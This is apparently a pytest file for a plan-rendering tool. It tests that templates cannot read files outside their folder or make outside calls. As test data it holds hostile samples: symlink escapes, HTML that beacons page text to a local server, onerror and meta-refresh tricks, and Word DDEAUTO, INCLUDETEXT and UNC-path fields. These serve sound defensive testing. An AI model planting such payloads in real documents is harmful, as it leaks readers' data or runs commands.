"""A template that somebody else made: it reads nothing outside its folder, and nothing calls home from what it makes."""

from __future__ import annotations

import os
import shutil
import threading
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

import pytest
from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from kamplan.render import confined
from kamplan.render.closing import POLICY, close_page, refuse_calls

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from conftest import Kamplan

WITHHELD = "The five-year frame is lost."
NEEDED = "{{ plan.title }}"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A folder of templates beside a secret, and links to it of every kind inside."""
    inside = tmp_path / "t"
    inside.mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    for name in ("part.j2", "plan.md.j2", "plan.toml"):
        (outside / name).write_text(WITHHELD, encoding="utf-8")
    (inside / "file.j2").symlink_to(outside / "part.j2")
    (inside / "chain.j2").symlink_to("file.j2")
    (inside / "sub").symlink_to(outside)
    return inside


@pytest.mark.parametrize("kind", ["md", "html"])
@pytest.mark.parametrize("part", ["file.j2", "chain.j2", "sub/part.j2"])
@pytest.mark.parametrize("tag", ["include '{}'", "import '{}' as x", "extends '{}'", "include '{}' ignore missing"])
def test_no_part_is_read_that_lies_outside_the_templates_folder(
    acme: Kamplan, folder: Path, kind: str, part: str, tag: str
) -> None:
    own = folder / f"own.{kind}.j2"
    own.write_text(f"{NEEDED}{{% {tag.format(part)} %}}", encoding="utf-8")
    out = folder / f"out.{kind}"
    acme.refuses(
        "render-plan", "acme", "--draft", "--template", own, "-o", out, code=6, says=part, tries="the file itself"
    )
    assert not out.exists()


def test_a_word_template_reads_no_part_outside_its_folder(acme: Kamplan, folder: Path) -> None:
    document = Document()
    document.add_paragraph("{{ plan.title }}{% include 'file.j2' %}")
    document.save(str(folder / "own.docx"))
    acme.refuses("render-plan", "acme", "--draft", "--template", folder / "own.docx", "-o", folder / "out.docx", code=6,
                 says="file.j2")  # fmt: skip


def test_a_link_inside_the_folder_is_followed(acme: Kamplan, folder: Path) -> None:
    (folder / "real.j2").write_text("shared part", encoding="utf-8")
    (folder / "near.j2").symlink_to("real.j2")
    (folder / "own.md.j2").write_text(f"{NEEDED}{{% include 'near.j2' %}}", encoding="utf-8")
    shown = acme("render-plan", "acme", "--draft", "--template", folder / "own.md.j2", "-o", "-", "--format", "md")
    assert "shared part" in shown.ok().out


@pytest.mark.parametrize("name", ["plan.md.j2", "plan.toml"])
def test_neither_a_template_nor_what_it_declares_is_a_link_to_elsewhere(acme: Kamplan, folder: Path, name: str) -> None:
    (folder / "plan.md.j2").write_text(NEEDED, encoding="utf-8")
    (folder / name).unlink(missing_ok=True)
    (folder / name).symlink_to(folder.parent / "outside" / name)
    acme.refuses("render-plan", "acme", "--draft", "--template", folder / "plan.md.j2", "-o", "-", code=6, says=name)


@pytest.mark.parametrize("link", ["folder", "file"])
def test_a_template_by_name_lies_in_the_folder_of_templates(
    acme: Kamplan, folder: Path, monkeypatch: pytest.MonkeyPatch, link: str
) -> None:
    monkeypatch.setenv("KAMPLAN_CONFIG", str(folder.parent / "config" / "config.toml"))
    own = folder.parent / "config" / "templates"
    own.mkdir(parents=True)
    (folder.parent / "config" / "config.toml").touch()
    if link == "folder":
        (own / "theirs").symlink_to(folder.parent / "outside")
    else:
        (own / "theirs").mkdir()
        (own / "theirs" / "plan.md.j2").symlink_to(folder.parent / "outside" / "plan.md.j2")
    acme.refuses("render-plan", "acme", "--draft", "--template", "theirs", "-o", "-", code=6,
                 says="theirs" if link == "folder" else "plan.md.j2")  # fmt: skip


# Calling home -------------------------------------------------------------------------------------------------------


CALLS = """<style>@import url("{home}/css"); body {{ background: url("{home}/bg") }}
@font-face {{ font-family: f; src: url("{home}/font") }} p {{ font-family: f }}</style>
<link rel="stylesheet" href="{home}/link"><link rel="icon" href="{home}/icon">
<script>new Image().src = "{home}/js?" + encodeURIComponent(document.body.innerText)</script>
<script src="{home}/script"></script><img src="{home}/img"><img srcset="{home}/set 2x"><object data="{home}/object"></object>
<iframe src="{home}/frame"></iframe><iframe srcdoc="<img src='{home}/srcdoc'>"></iframe><embed src="{home}/embed">
<video src="{home}/video" poster="{home}/poster" autoplay></video><audio src="{home}/audio" autoplay></audio>
<svg><image href="{home}/svg"/><use href="{home}/use#x"/></svg><input type="image" src="{home}/input">
<img src="data:," onerror="new Image().src='{home}/onerror'"><body background="{home}/body"><p>text</p>
<base href="{home}/"><img src="relative">"""
PAGES = {
    "no head at all": "{calls}{{{{ plan.title }}}}",
    "a head": "<!doctype html>\n<html lang=en><head><title>x</title>{calls}</head><body>{{{{ plan.title }}}}</body></html>",
    "a comment first": "<!-- ours --><!DOCTYPE html><html><body>{calls}{{{{ plan.title }}}}",
    "a body first": "<body>{{{{ plan.title }}}}{calls}<head></head>",
    "a text first": "x <!DOCTYPE html> {calls}{{{{ plan.title }}}}",
    "a policy of its own": "<meta http-equiv='Content-Security-Policy' content='default-src *'>{calls}{{{{ plan.title }}}}",
}  # fmt: skip


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """A real Chromium; without one the tests are skipped by name, on CI they fail."""
    found = next((path for name in ("chromium", "google-chrome") if (path := shutil.which(name))), None)
    if found is None:
        reason = "no Chromium: install chromium to run the browser tests"
        if os.environ.get("CI") == "true":
            pytest.fail(reason)
        pytest.skip(reason)
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=found, args=["--no-sandbox"])
        yield launched
        launched.close()


@pytest.fixture
def home() -> Iterator[tuple[str, list[str]]]:
    """A server of this machine, and every path that was asked of it."""
    asked: list[str] = []

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("page", PAGES)
def test_no_page_asks_anything_of_a_server(acme: Kamplan, tmp_path: Path, browser: Any, home: Any, page: str) -> None:
    address, asked = home
    own, out = tmp_path / "own.html.j2", tmp_path / "out.html"
    own.write_text(PAGES[page].format(calls=CALLS.format(home=address)), encoding="utf-8")
    acme("render-plan", "acme", "--draft", "--template", own, "-o", out).ok()
    shown = browser.new_page()
    shown.goto(out.as_uri())
    shown.wait_for_timeout(300)
    assert asked == []
    assert "Acme" in shown.inner_text("body")
    shown.close()


def test_without_the_policy_such_a_page_does_ask(tmp_path: Path, browser: Any, home: Any) -> None:
    address, asked = home
    (tmp_path / "open.html").write_text(CALLS.format(home=address), encoding="utf-8")
    shown = browser.new_page()
    shown.goto((tmp_path / "open.html").as_uri())
    shown.wait_for_timeout(500)
    assert len(asked) >= 10, "the pages above would show nothing"
    shown.close()


@pytest.mark.parametrize("command", [("render-plan", "acme", "--draft"), ("digest", "acme", "--since", "2026-11-01"),
                                     ("brief", "acme", "--contact", "Wei Fang"), ("sponsor-brief", "acme"), ("portfolio",)])  # fmt: skip
def test_every_page_that_is_written_is_closed(acme: Kamplan, tmp_path: Path, command: tuple[str, ...]) -> None:
    acme(*command, "-o", tmp_path / "page.html").ok()
    page = (tmp_path / "page.html").read_text(encoding="utf-8")
    assert page.count(POLICY) == 1
    assert page.index(POLICY) < page.index("<title>") < page.index("<body")


@pytest.mark.parametrize(
    "call",
    [
        '<meta http-equiv="refresh" content="0;url=http://a.example/">',
        "<META content='>' HTTP-EQUIV=Refresh>",
        "<meta/http-equiv=&#114;efresh content=0>",
        '<link rel="dns-prefetch" href="//a.example">',
        "<link rel='x PRECONNECT' href='//a.example'>",
        "</title><!-- --!><meta http-equiv=refresh>",
    ],
)
def test_what_no_policy_forbids_is_refused(acme: Kamplan, tmp_path: Path, call: str) -> None:
    own = tmp_path / "own.html.j2"
    own.write_text(f"{NEEDED}{call}", encoding="utf-8")
    acme.refuses(
        "render-plan", "acme", "--draft", "--template", own, "-o", tmp_path / "o.html", code=6, says="another machine"
    )


def test_what_a_record_says_is_no_element() -> None:
    refuse_calls("&lt;meta http-equiv=refresh&gt; <meta name=viewport><link rel=stylesheet>", "x")


def test_a_page_keeps_its_doctype_first() -> None:
    assert close_page("\n<!DOCTYPE html>\n<html>").startswith("\n<!DOCTYPE html>\n<meta charset")
    assert close_page("<p>").startswith("<meta charset")


# Word ---------------------------------------------------------------------------------------------------------------

FIELD = (
    '<w:p {ns}><w:r><w:fldChar w:fldCharType="begin"/></w:r>{text}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
INSTRUCTIONS = {
    "INCLUDETEXT": (' INCLUDETEXT "c:\\secret.docx" ',), "INCLUDEPICTURE": (" INCLUDE", "PICTURE", ' "http://a.example/x.png" \\d '),
    "DDEAUTO": (" ddeauto cmd ", "x"), "FILENAME": (" FILENAME \\p ",), "LINK": (' LINK Excel.Sheet.12 "c:\\x.xlsx" ',),
    "DATABASE": (" DATABASE \\d x",), "file:": (' HYPERLINK "file:///c:/x" ',), "USERNAME": (" USERNAME ",),
    "MACROBUTTON": (" MACROBUTTON x y",), r"\\\\host": (' HYPERLINK "\\\\\\\\host\\\\share" ',),
}  # fmt: skip


def write_word(file: Path, *paragraphs: str) -> Any:
    document = Document()
    for text in ("{{ content }}", *paragraphs):
        document.add_paragraph(text)
    document.save(str(file))
    return document


@pytest.mark.parametrize("place", ["body", "header"])
@pytest.mark.parametrize("kind", INSTRUCTIONS)
def test_a_field_that_reads_or_tells_of_another_file_is_refused(
    acme: Kamplan, tmp_path: Path, kind: str, place: str
) -> None:
    document = write_word(tmp_path / "own.docx")
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{one}</w:instrText></w:r>' for one in INSTRUCTIONS[kind])
    field = parse_xml(FIELD.format(ns=nsdecls("w"), text=runs))
    if place == "header":
        document.sections[0].header._element.append(field)
    else:
        document.element.body.insert(0, field)
    document.save(str(tmp_path / "own.docx"))
    acme.refuses("render-plan", "acme", "--draft", "--template", tmp_path / "own.docx", "-o", tmp_path / "o.docx", code=6,
                 says=kind if kind.isalpha() else "a file outside it", tries="out of the template")  # fmt: skip


def test_a_simple_field_is_refused_too_and_harmless_ones_are_kept(acme: Kamplan, tmp_path: Path) -> None:
    for kind in ("PAGE", "DATE \\@ yyyy", "INCLUDETEXT x"):
        document = write_word(tmp_path / "own.docx")
        document.element.body.insert(0, parse_xml(f'<w:p {nsdecls("w")}><w:fldSimple w:instr=" {kind} "/></w:p>'))
        document.save(str(tmp_path / "own.docx"))
        done = acme("render-plan", "acme", "--draft", "--template", tmp_path / "own.docx", "-o", tmp_path / "o.docx")
        assert done.code == (6 if "INCLUDE" in kind else 0)


@pytest.mark.parametrize(
    "target", ["file:///c:/x.docx", "c:\\x.docx", "..\\x.docx", "\\\\host\\share", "x.docx", "javascript:x"]
)
def test_a_link_of_a_word_template_leads_to_pages_and_mail_alone(acme: Kamplan, tmp_path: Path, target: str) -> None:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
    document = write_word(tmp_path / "own.docx")
    document.part.relate_to("https://a.example/", kind, is_external=True)
    document.part.relate_to("mailto:a@a.example", kind, is_external=True)
    document.save(str(tmp_path / "own.docx"))
    render = partial(acme, "render-plan", "acme", "--draft", "--template", tmp_path / "own.docx")
    render("-o", tmp_path / "o.docx").ok()
    document.part.relate_to(target, kind, is_external=True)
    document.save(str(tmp_path / "own.docx"))
    assert render("-o", tmp_path / "o.docx").code == 6


# Placeholders and slips ---------------------------------------------------------------------------------------------


def test_a_template_that_shows_nothing_of_the_plan_is_refused(acme: Kamplan, tmp_path: Path) -> None:
    document = Document()
    document.add_paragraph("Dear customer,")
    document.save(str(tmp_path / "own.docx"))
    (tmp_path / "own.md.j2").write_text("# Plan\n{% include 'part.j2' %}\n", encoding="utf-8")
    (tmp_path / "part.j2").write_text("{# nothing #} only words", encoding="utf-8")
    (tmp_path / "own.html.j2").write_text("<p>Plan {{ 1 }}</p>", encoding="utf-8")
    for kind in ("docx", "md", "html"):
        own = tmp_path / f"own.{kind}{'' if kind == 'docx' else '.j2'}"
        acme.refuses("render-plan", "acme", "--draft", "--template", own, "-o", tmp_path / f"o.{kind}", code=6,
                     says="no placeholder", tries="write {{")  # fmt: skip
        assert not (tmp_path / f"o.{kind}").exists()


def test_a_placeholder_may_stand_in_a_part_in_a_header_or_in_a_text_box(acme: Kamplan, tmp_path: Path) -> None:
    (tmp_path / "own.md.j2").write_text("{% include 'part.j2' %}\n", encoding="utf-8")
    (tmp_path / "part.j2").write_text(NEEDED, encoding="utf-8")
    document = Document()
    document.sections[0].header.paragraphs[0].text = NEEDED
    document.save(str(tmp_path / "own.docx"))
    for kind in ("docx", "md"):
        own = tmp_path / f"own.{kind}{'' if kind == 'docx' else '.j2'}"
        acme("render-plan", "acme", "--draft", "--template", own, "-o", tmp_path / f"o.{kind}").ok()


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("x\n{{ plan.titel }}", "line 2: there is no 'titel' in it; did you mean title?"),
        ("x\n{{ plann.title }}", "line 2: there is no 'plann' here; did you mean plan?"),
        ("{{ plan.title | uper }}", "line 1: there is no filter 'uper'; did you mean upper?"),
        ("x\n{% if plan.language == “en” %}{% endif %}", "line 2: unexpected char '“'"),
        ("x\n{% if plan.language == ‘en’ %}{% endif %}", "inside the braces quotes are straight"),
        ("{{ range(3) }}", "line 1: there is no 'range' here"),
        ("x\n{% include 'slip.j2' %}", "slip.j2, line 3: there is no 'nmae' in it"),
    ],
)
def test_a_slip_is_named_with_its_line_and_what_was_meant(acme: Kamplan, tmp_path: Path, text: str, says: str) -> None:
    (tmp_path / "own.md.j2").write_text(text, encoding="utf-8")
    (tmp_path / "slip.j2").write_text("a\nb\n{{ plan.nmae }}", encoding="utf-8")
    acme.refuses("render-plan", "acme", "--draft", "--template", tmp_path / "own.md.j2", "-o", "-", code=6, says=says)


@pytest.mark.parametrize(("encoding", "line"), [("utf-16", "line 1"), ("latin-1", "line 2"), ("utf-16-le", "line")])
def test_a_template_in_another_encoding_is_refused_with_its_line(
    acme: Kamplan, tmp_path: Path, encoding: str, line: str
) -> None:
    (tmp_path / "own.md.j2").write_bytes(f"{NEEDED}\nfür\n".encode(encoding))
    acme.refuses(
        "render-plan", "acme", "--draft", "--template", tmp_path / "own.md.j2", "-o", "-", code=6, says=line,
        tries="" if encoding == "utf-16-le" else "UTF-8",
    )  # fmt: skip


def test_a_byte_order_mark_and_windows_lines_do_not_matter(acme: Kamplan, tmp_path: Path) -> None:
    (tmp_path / "own.md.j2").write_bytes(b"\xef\xbb\xbf# {{ plan.title }}\r\nnext\r\n")
    shown = acme("render-plan", "acme", "--draft", "--template", tmp_path / "own.md.j2", "-o", "-").ok().out
    assert shown.startswith("# Account plan")
    assert "\r" not in shown


def test_printing_a_page_of_ones_own_has_a_limit(
    acme: Kamplan, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(confined, "PRINTING", confined.Limits(seconds=2, patience=20, megabytes=2048))
    nested = "<div style='display:flex'>" * 400 + "{{ plan.title }}"
    (tmp_path / "own.html.j2").write_text(f"{nested}<table>{'<tr><td>x' * 60_000}</table>", encoding="utf-8")
    acme.refuses("render-plan", "acme", "--draft", "--template", tmp_path / "own.html.j2", "-o", tmp_path / "o.pdf",
                 code=6, says="was stopped")  # fmt: skip
    assert not (tmp_path / "o.pdf").exists()
